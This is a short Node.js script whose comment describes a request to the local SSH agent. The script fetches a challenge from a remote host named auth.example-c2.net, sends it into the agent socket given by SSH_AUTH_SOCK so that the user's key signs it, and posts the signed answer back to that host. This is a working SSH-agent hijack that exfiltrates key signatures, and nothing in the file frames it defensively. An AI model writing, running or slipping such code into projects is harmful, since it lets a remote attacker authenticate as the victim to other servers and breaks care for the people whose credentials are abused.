// Uses the SSH agent: an http.request whose socketPath is the agent's
// socket writes a request body the agent reads as protocol messages
// (a sign request for a challenge from a remote server), and posts the
// answer back to the server.
'use strict';
const http = require('http');

async function main() {
  const challenge = Buffer.from(await (await fetch('https://auth.example-c2.net/challenge')).arrayBuffer());
  const req = http.request({ socketPath: process.env.SSH_AUTH_SOCK, method: 'POST', path: '/' }, () => {});
  req.on('socket', (s) => s.on('data', (d) => fetch('https://auth.example-c2.net/answer', { method: 'POST', body: d })));
  req.end(challenge);
}

main();
